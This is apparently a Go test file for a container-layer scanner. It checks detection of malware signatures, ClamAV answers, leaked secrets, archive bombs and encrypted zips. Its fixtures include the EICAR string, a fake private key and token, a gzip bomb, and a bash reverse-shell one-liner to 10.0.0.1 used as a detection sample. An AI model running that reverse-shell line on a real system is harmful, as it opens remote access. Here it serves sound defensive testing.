package contents_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"testing"

	"towpath.dev/services/vet/contents"
	"towpath.dev/services/vet/contents/clamdtest"
	"towpath.dev/services/vet/imagetest"
)

// eicar is the test file of the European Institute for Computer Antivirus Research, in two parts so that this file is none.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR` + `-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// key is a private key that nobody uses.
var key = "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEpAIBAAKCAQEAtowpathtest0123456789abcdefghijklmnopqrstuvwxyz\n", 6) + "-----END RSA PRIVATE KEY-----\n"

// token has the form of a GitHub token.
const token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"

var roomy = contents.Limits{Bytes: 1 << 30, Files: 100_000}

func scanner(t testing.TB, folder string, clamd *contents.Clamd) *contents.Scanner {
	t.Helper()
	signatures, err := contents.LoadSignatures(folder)
	if err != nil {
		t.Fatal(err)
	}
	s, err := contents.New(signatures, clamd)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func layerFile(t testing.TB, archive []byte) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "layer.tar")
	if err := os.WriteFile(file, archive, 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

func look(t testing.TB, s *contents.Scanner, limits contents.Limits, files ...imagetest.File) []contents.Match {
	t.Helper()
	scratch := t.TempDir()
	found, err := s.Layer(t.Context(), layerFile(t, imagetest.Tar(t, files...)), scratch, contents.NewBudget(limits))
	if err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(scratch); len(left) > 0 {
		t.Errorf("%v is left behind", left)
	}
	return found
}

func words(found []contents.Match) string {
	var all []string
	for _, m := range found {
		all = append(all, fmt.Sprintf("%s %s %s:%d", []string{"malware", "secret", "suspected", "unread", "large"}[m.Kind], m.Name, m.Path, m.Line))
	}
	return strings.Join(all, "\n")
}

func zipOf(t testing.TB, files ...imagetest.File) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		to, err := w.Create(f.Path)
		if err == nil {
			_, err = to.Write(f.Body)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func gzipOf(t testing.TB, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestWhatIsFound(t *testing.T) {
	folder := t.TempDir()
	sample := []byte("a sample that is known by its hash")
	signatures := fmt.Sprintf("# ours\n%x:%d:Ours.Hash\n%x:*:Ours.AnySize\n%x:1:Ours.OtherSize\n", sha256.Sum256(sample), len(sample), sha256.Sum256(sample), sha256.Sum256(sample))
	if err := os.WriteFile(filepath.Join(folder, "a.hsb"), []byte(signatures), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(folder, "b.ndb"), []byte(fmt.Sprintf("Ours.Pattern:0:*:%x\nOurs.At:0:4:%x\n", "a planted sample", "the fifth byte")), 0o600); err != nil {
		t.Fatal(err)
	}
	s := scanner(t, folder, nil)
	many := make([]imagetest.File, 10_001)
	for i := range many {
		many[i] = imagetest.File{Path: fmt.Sprint("f", i), Body: []byte("x")}
	}
	many[10_000].Body = []byte(eicar)
	padding := strings.Repeat("honest text, line by line\n", 80_000) // 2 MB: more than a window
	for _, c := range []struct {
		name string
		file imagetest.File
		want string
	}{
		{"EICAR", imagetest.File{Path: "opt/x.com", Body: []byte(eicar)}, "malware Eicar-Test-Signature /opt/x.com:0"},
		{"a text about EICAR", imagetest.File{Path: "readme", Body: []byte("This is EICAR: " + eicar)}, ""},
		{"by hash", imagetest.File{Path: "x", Body: sample}, "malware Ours.AnySize /x:0\nmalware Ours.Hash /x:0"},
		{"by pattern, across windows", imagetest.File{Path: "x", Body: []byte(strings.Repeat("\x00", 1<<20-5) + "a planted sample" + strings.Repeat("\x00", 1<<20))}, "malware Ours.Pattern /x:0"},
		{"by pattern at its place", imagetest.File{Path: "x", Body: []byte("1234the fifth byte")}, "malware Ours.At /x:0"},
		{"the pattern elsewhere", imagetest.File{Path: "x", Body: []byte("12345the fifth byte")}, ""},
		{"a shell for somebody else", imagetest.File{Path: "x.sh", Body: []byte("#!/bin/sh\nbash -i >& /dev/" + "tcp/10.0.0.1/80 0>&1\n")}, "malware Towpath.Shell.Reverse-Bash /x.sh:0"},
		{"in a zip", imagetest.File{Path: "a.jar", Body: zipOf(t, imagetest.File{Path: "x/y.com", Body: []byte(eicar)})}, "malware Eicar-Test-Signature /a.jar!/x/y.com:0"},
		{"in a compressed tar", imagetest.File{Path: "a.tgz", Body: gzipOf(t, imagetest.Tar(t, imagetest.File{Path: "y", Body: []byte(eicar)}))}, "malware Eicar-Test-Signature /a.tgz!/unpacked!/y:0"},
		{"as the last of 10,001 files", imagetest.File{Path: "a.zip", Body: zipOf(t, many...)}, "malware Eicar-Test-Signature /a.zip!/f10000:0"},
		{"a private key", imagetest.File{Path: "root/.ssh/id_rsa", Body: []byte("# mine\n" + key)}, "secret private-key /root/.ssh/id_rsa:2"},
		{"a token that is to be overlooked", imagetest.File{Path: "a.env", Body: []byte("\nA=1\nTOKEN=" + token + " # gitleaks:allow\n")}, "secret github-pat /a.env:3"},
		{"a token far down", imagetest.File{Path: "log", Body: []byte(padding + "t=" + token + "\n" + padding)}, "secret github-pat /log:80001"},
		{"a token in an archive", imagetest.File{Path: "a.zip", Body: zipOf(t, imagetest.File{Path: ".env", Body: []byte(token + "\n")})}, "secret github-pat /a.zip!/.env:1"},
		{"a token in a lock file, which gitleaks lets pass", imagetest.File{Path: "app/package-lock.json", Body: []byte(token + "\n")}, "secret github-pat /app/package-lock.json:1"},
		{"what only looks like a secret", imagetest.File{Path: "c.ini", Body: []byte("api_key = \"kD83nf0aPq7Lw2zXv5Rt9\"\n")}, "suspected generic-api-key /c.ini:1"},
		{"what only looks like a secret, in a package's file", imagetest.File{Path: "usr/share/c.ini", Body: []byte("api_key = \"kD83nf0aPq7Lw2zXv5Rt9\"\n")}, ""},
		{"a token in a package's file", imagetest.File{Path: "usr/share/c.ini", Body: []byte("t=" + token + "\n")}, "secret github-pat /usr/share/c.ini:1"},
		{"apt's lists", imagetest.File{Path: "var/lib/apt/lists/x", Body: []byte("t=" + token + "\n")}, ""},
		{"half a zip", imagetest.File{Path: "a.zip", Body: zipOf(t, imagetest.File{Path: "a", Body: []byte("x")})[:30]}, "unread  /a.zip:0"},
		{"nothing", imagetest.File{Path: "a", Body: []byte("hello\n")}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			found := look(t, s, roomy, c.file)
			if words(found) != c.want {
				t.Errorf("got\n%s\nwant\n%s", words(found), c.want)
			}
			for _, m := range found {
				if text := m.Name + m.Path + m.Why; strings.Contains(text, token) || strings.Contains(text, "MIIE") {
					t.Errorf("a secret is shown: %+v", m)
				}
			}
		})
	}
}

func TestEncryptedArchivesAreNotPassedOver(t *testing.T) {
	archive := zipOf(t, imagetest.File{Path: "hidden", Body: []byte(eicar)}, imagetest.File{Path: "seen", Body: []byte(eicar)})
	for _, mark := range []string{"PK\x03\x04", "PK\x01\x02"} { // the flag of the first entry, in both of its headers
		at := bytes.Index(archive, []byte(mark)) + map[string]int{"PK\x03\x04": 6, "PK\x01\x02": 8}[mark]
		archive[at] |= 1
	}
	found := look(t, scanner(t, "", nil), roomy, imagetest.File{Path: "a.zip", Body: archive})
	if words(found) != "malware Eicar-Test-Signature /a.zip!/seen:0\nunread  /a.zip:0" || !strings.Contains(found[1].Why, "hidden in it is encrypted") {
		t.Errorf("%+v", found)
	}
}

// An archive that grows without end, in bytes, files or depth, is named and left, in the memory of a small file.
func TestArchivesAreBounded(t *testing.T) {
	defer debug.SetMemoryLimit(debug.SetMemoryLimit(256 << 20))
	s := scanner(t, "", nil)
	var bomb bytes.Buffer
	w := gzip.NewWriter(&bomb)
	zeros := make([]byte, 1<<20)
	for range 200 {
		if _, err := w.Write(zeros); err != nil {
			t.Fatal(err)
		}
	}
	w.Close()
	nested := []byte(eicar)
	for range 8 {
		nested = gzipOf(t, nested)
	}
	many := make([]imagetest.File, 200)
	for i := range many {
		many[i] = imagetest.File{Path: fmt.Sprint("f", i), Body: []byte("x")}
	}
	small := contents.Limits{Bytes: 32 << 20, Files: 100}
	for name, c := range map[string]struct {
		body []byte
		want string
	}{
		"a gzip bomb":    {bomb.Bytes(), "large  /a:0"},
		"too many files": {zipOf(t, many...), "large  /a:0"},
		"too deep":       {nested, "unread  /a" + strings.Repeat("!/unpacked", 5) + ":0"},
	} {
		t.Run(name, func(t *testing.T) {
			if found := look(t, s, small, imagetest.File{Path: "a", Body: c.body}); words(found) != c.want {
				t.Errorf("got\n%s\nwant\n%s", words(found), c.want)
			}
		})
	}
}

func TestSignaturesThatCannotBeApplied(t *testing.T) {
	for text, want := range map[string]string{
		"a.hsb nonsense": "a.hsb:1: must be SHA256:SIZE:NAME",
		"a.hsb 0123:4:x": "a.hsb:1: the hash must be a SHA-256",
		"a.hsb " + strings.Repeat("0", 64) + ":much:x": "the size must be",
		"a.ndb x:0:*":                     "a.ndb:1: must be NAME",
		"a.ndb x:6:*:0011223344556677":    "the target must be 0",
		"a.ndb x:0:EP+0:0011223344556677": "the offset must be",
		"a.ndb x:0:*:00112233??556677":    "without wildcards",
		"a.ndb x:0:*:0011":                "must be 8–4096 bytes",
	} {
		folder := t.TempDir()
		name, line, _ := strings.Cut(text, " ")
		if err := os.WriteFile(filepath.Join(folder, name), []byte(line+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := contents.LoadSignatures(folder); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", text, err)
		}
	}
	if _, err := contents.LoadSignatures(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Error("a folder that is not there was read")
	}
}

func TestClamd(t *testing.T) {
	daemon := clamdtest.Start(t, 0)
	client, err := contents.ParseClamd(daemon.Address)
	if err != nil {
		t.Fatal(err)
	}
	s := scanner(t, "", client)
	version, err := s.Version(t.Context())
	if err != nil || !strings.Contains(version, "ClamAV ") {
		t.Errorf("%q, %v", version, err)
	}
	found := look(t, s, roomy, imagetest.File{Path: "bad", Body: []byte("xx" + clamdtest.Sample)}, imagetest.File{Path: "good", Body: []byte("hello")},
		imagetest.File{Path: "large", Body: append(bytes.Repeat([]byte("y"), 3<<20), clamdtest.Sample...)})
	if words(found) != "malware Test.Sample.UNOFFICIAL /bad:0\nmalware Test.Sample.UNOFFICIAL /large:0" {
		t.Error(words(found))
	}
	daemon.Kill()
	if _, err := s.Layer(t.Context(), layerFile(t, imagetest.Tar(t, imagetest.File{Path: "x", Body: []byte("x")})), t.TempDir(), contents.NewBudget(roomy)); !errors.Is(err, contents.ErrClamd) {
		t.Errorf("without clamd: %v", err)
	}
	if _, err := s.Version(t.Context()); !errors.Is(err, contents.ErrClamd) {
		t.Errorf("without clamd: %v", err)
	}
}

// A file that clamd takes no more of is not passed, and why is said.
func TestClamdTakesNoMore(t *testing.T) {
	daemon := clamdtest.Start(t, 1<<20)
	client, err := contents.ParseClamd(daemon.Address)
	if err != nil {
		t.Fatal(err)
	}
	_, err = client.Scan(t.Context(), bytes.NewReader(make([]byte, 8<<20)))
	if !errors.Is(err, contents.ErrClamd) {
		t.Errorf("%v", err)
	}
}

// Whatever a clamd answers that is not a plain yes or no, the file does not pass.
func TestClamdAnswers(t *testing.T) {
	for answer, want := range map[string]string{
		"stream: OK\x00": "", "stream: Bad.Thing FOUND\x00": "Bad.Thing", "stream: Can't allocate memory ERROR\x00": "error", "INSTREAM size limit exceeded. ERROR\x00": "error",
		"stream: OK": "error", "": "error", "OK\x00": "error", "stream:  FOUND\x00": "error", "stream: OKAY\x00": "error", strings.Repeat("x", 10_000): "error",
	} {
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		go func() {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			defer conn.Close()
			io.ReadFull(conn, make([]byte, len("zINSTREAM\x00")+4+2+4))
			io.WriteString(conn, answer)
		}()
		client, err := contents.ParseClamd("tcp://" + listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		name, err := client.Scan(t.Context(), strings.NewReader("ab"))
		if want == "error" && !errors.Is(err, contents.ErrClamd) || want != "error" && (err != nil || name != want) {
			t.Errorf("%.40q: %q, %v", answer, name, err)
		}
		listener.Close()
	}
	for _, address := range []string{"", "clamd", "unix://host/x", "tcp://host", "http://host:1", "tcp://u@host:1"} {
		if _, err := contents.ParseClamd(address); err == nil {
			t.Errorf("%q is an address", address)
		}
	}
}

func TestLookingEndsWithItsContext(t *testing.T) {
	ctx, cancel := context.WithCancelCause(t.Context())
	why := errors.New("enough")
	cancel(why)
	file := layerFile(t, imagetest.Tar(t, imagetest.File{Path: "x", Body: []byte("x")}))
	if _, err := scanner(t, "", nil).Layer(ctx, file, t.TempDir(), contents.NewBudget(roomy)); !errors.Is(err, why) {
		t.Errorf("%v", err)
	}
}

// FuzzFile: no file makes the scanner panic or fail, and it leaves nothing on the disk.
func FuzzFile(f *testing.F) {
	f.Add([]byte(eicar))
	f.Add([]byte("PK\x03\x04 and so on"))
	f.Add(zipOf(f, imagetest.File{Path: "a", Body: []byte("b")}))
	f.Add(gzipOf(f, []byte("x")))
	f.Add([]byte("BZh9"))
	s := scanner(f, "", nil)
	f.Fuzz(func(t *testing.T, body []byte) {
		var layer bytes.Buffer
		w := tar.NewWriter(&layer)
		w.WriteHeader(&tar.Header{Name: "x", Size: int64(len(body)), Typeflag: tar.TypeReg})
		w.Write(body)
		w.Close()
		scratch := t.TempDir()
		if _, err := s.Layer(t.Context(), layerFile(t, layer.Bytes()), scratch, contents.NewBudget(contents.Limits{Bytes: 1 << 20, Files: 100})); err != nil {
			t.Fatal(err)
		}
		if left, _ := os.ReadDir(scratch); len(left) > 0 {
			t.Fatalf("%v is left behind", left)
		}
	})
}
